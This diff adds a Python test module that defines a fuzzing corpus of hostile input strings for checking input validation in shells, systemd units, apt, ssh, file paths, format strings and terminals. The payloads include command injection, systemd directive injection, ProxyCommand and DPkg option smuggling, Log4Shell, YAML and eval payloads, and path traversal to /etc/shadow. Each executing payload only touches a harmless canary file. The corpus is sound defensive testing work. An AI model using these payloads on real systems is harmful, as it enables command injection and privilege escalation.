@@ -1,0 +1,160 @@
+"""
+What an attacker would write into a field: for shells, systemd, apt, ssh, paths, formats, terminals.
+
+Whatever would be executed anywhere makes a file whose name begins with :data:`CANARY`.
+"""
+
+from __future__ import annotations
+
+CANARY = "warlock-canary"
+_TOUCH = f"touch /tmp/{CANARY}"
+_PROGRAM = f"/usr/bin/{_TOUCH}"
+
+SHELL = (
+    f"$({_TOUCH})",
+    f"`{_TOUCH}`",
+    f"; {_TOUCH} ;",
+    f"&& {_TOUCH}",
+    f"| {_TOUCH} &",
+    f"|| {_TOUCH} #",
+    f"'; {_TOUCH}; '",
+    f'"; {_TOUCH}; "',
+    f'" $({_TOUCH}) "',
+    f"\\'; {_TOUCH} #",
+    f"<({_TOUCH})",
+    f"x > /tmp/{CANARY}",
+    f"${{IFS}}$({_TOUCH})",
+    f"$'\\n'{_TOUCH}",
+    "*",
+    "~root",
+    "!!",
+    "\\",
+    "\\\\\\",
+    "'",
+    '"',
+    '""',
+    " ",
+    "  two  spaces  ",
+    "#",
+)
+LINES = (
+    f"a\n{_TOUCH}\n",
+    f"a\r\n{_TOUCH}\r\n",
+    f"a\r{_TOUCH}",
+    f"a\nExecStartPre={_PROGRAM}",
+    f'a"\nExecStartPre={_PROGRAM}\nX="',
+    "a\nUser=root\n",
+    "a\n\n[Service]\nUser=root",
+    f"a\\\nExecStartPre={_PROGRAM}",
+    f"a\x85{_TOUCH}",
+    f"a\u2028ExecStartPre={_PROGRAM}",
+    f"a\x0b{_TOUCH}\x0c",
+    "a\tb",
+)
+SYSTEMD = (
+    "%n",
+    "%h/%i/%u",
+    "%%",
+    "%",
+    "100%n",
+    "${VAR}",
+    "$VAR",
+    "${HOME}",
+    "$$",
+    "${WARLOCK_GUID}",
+    "${UNDEFINED:-x}",
+    "${",
+    f"+{_PROGRAM}",
+    f"!!{_PROGRAM}",
+    f"@{_PROGRAM}",
+    f"; {_PROGRAM}",
+    ";",
+    "\\x2f",
+    "\\n",
+    "\\u0041",
+    "User=root",
+)
+PATHS = (
+    "../../../../etc/cron.d/x",
+    "/../../tmp",
+    "/opt/../etc/shadow",
+    "/opt/./x",
+    "/opt//x",
+    "/etc/shadow",
+    "/proc/self/root/etc",
+    "/dev/zero",
+    "..",
+    ".",
+    "/",
+    "~/x",
+    "C:\\..\\x",
+    "/opt/x/../..",
+    "/opt/" + "x" * 300,
+    "file:///etc/shadow",
+)
+OPTIONS = (
+    "-",
+    "--",
+    "-y",
+    "--help",
+    "-oProxyCommand=" + _TOUCH,
+    "-o" + "DPkg::Pre-Invoke::=" + _TOUCH,
+    "--eval=" + _TOUCH,
+    "root@198.18.0.1",
+    "LD_PRELOAD=/tmp/x.so",
+    "PATH=/tmp",
+)
+FORMATS = (
+    "%s%s%s%n",
+    "%(name)s",
+    "{0.__class__}",
+    "{{7*7}}",
+    "{}",
+    "${jndi:ldap://198.18.0.1/x}",
+    f"!!python/object/apply:os.system ['{_TOUCH}']",
+    f"__import__('os').system('{_TOUCH}')",
+    '{"a": 1}',
+    "null",
+    "true",
+    "1e3",
+    "0x10",
+    "' OR 1=1 --",
+    "<script>",
+    "&lt;",
+)
+UNICODE = (
+    "\x00",
+    f"a\x00{_TOUCH}",
+    "\ud800",
+    "a\udfffb",
+    "\ufffe",
+    "a\uffffb",
+    "\ufdd0",
+    "\U0001ffff",
+    "\U0010ffff",
+    "\ufffd",
+    "\ufeffa",
+    "a\u202eb",
+    "a\u200fb",
+    "a\u2066b\u2069",
+    "a\u200bb",
+    "a\u00adb",
+    "a\U000e0041b",
+    "\u0434еfault",
+    "ｒｏｏｔ",
+    "\u2215etc\u2215shadow",
+    "\u2024\u2024/",
+    "e\u0301",
+    "\U0001f468\u200d\U0001f469",
+    "\u1160\u3164",
+    "ı",
+    "\x1b[2J\x1b]0;x\x07",
+    "\x9b31m",
+    "\x7f",
+    "\x08\x08",
+)
+SIZES = ("", "x" * 1024, "é" * 1024, "\U0001f3ae" * 1024, "x" * 1025, "x" * 1024 * 1024)
+
+CORPUS: tuple[str, ...] = (
+    SHELL + LINES + SYSTEMD + PATHS + OPTIONS + FORMATS + UNICODE + SIZES
+)  # fmt: skip
